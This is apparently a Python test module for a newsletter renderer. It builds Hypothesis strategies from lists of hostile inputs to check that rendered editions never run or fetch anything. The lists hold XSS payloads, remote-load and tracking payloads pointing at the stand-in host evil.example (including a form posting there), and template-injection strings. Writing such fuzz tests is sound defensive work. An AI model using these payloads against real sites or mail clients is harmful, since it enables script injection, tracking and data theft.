"""What should never do anything, however it is put together."""

from __future__ import annotations

from hypothesis import strategies as st
from tests.properties.markdown_kit import block
from tests.properties.words_kit import word

from newsletter.models.edition import MERGE_TAGS, NEIGHBOURS_MARK

SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "*x*{: onclick=alert(1) style=position:fixed id=main class=hide }",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
)
FETCHES = (
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';p{display:none}</style>",
    "<style>body{background:url(https://evil.example/x)}",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<td style='text-align:left;background:url(https://evil.example/x)'>x</td>",
    "<img src='https://evil.example/x.gif' srcset='https://evil.example/y.gif 2x'>",
    "![x](https://evil.example/x.gif)",
    "![x](//evil.example/x.gif)",
    "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "<table background='https://evil.example/x.gif'><tr><td>x</td></tr></table>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<video poster='https://evil.example/x.gif'><source src='https://evil.example/x.mp4'></video>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<form action='https://evil.example'><input name=a><button>x</button></form>",
)
MARKS = (
    *MERGE_TAGS.values(),
    "%%unsubscribe&#95;url%%",
    NEIGHBOURS_MARK,
    "\u27e60.0\u27e7",
    "&#10214;0.0&#10215;",
    "{{ 7 * 7 }}{% include 'web/issue.html' %}",
    "--> <!-- ]]> <![endif]--> <!--[if mso]>",
    "</td></tr></table></div></body></html>",
    "<h1>Another title</h1>",
    "<p id=main>x</p><h2 id='news'>x</h2><a name=contents>x</a>",
    "<div class='details-here footnote hide admonition'>x</div>",
    "<li>x",
    "\x00\x07\ufffe",
    "\\",
    "`",
    '"',
    "<",
    "<!--",
    "<p",
    "&",
)

_attack = st.sampled_from(SCRIPTS + FETCHES)
_mark = st.sampled_from(MARKS)
_around = st.one_of(_mark, word, block.map(lambda made: made.text))
text = st.builds(
    lambda before, attack, after, between: between.join([*before, attack, *after]),
    st.lists(_around, max_size=2),
    st.one_of(_attack, _mark),
    st.lists(st.one_of(_attack, _around), max_size=2),
    st.sampled_from(["", " ", "\n", "\n\n"]),
)
line = st.lists(st.one_of(_attack, _mark), min_size=1, max_size=2).map(lambda made: " ".join(" ".join(made).split()))
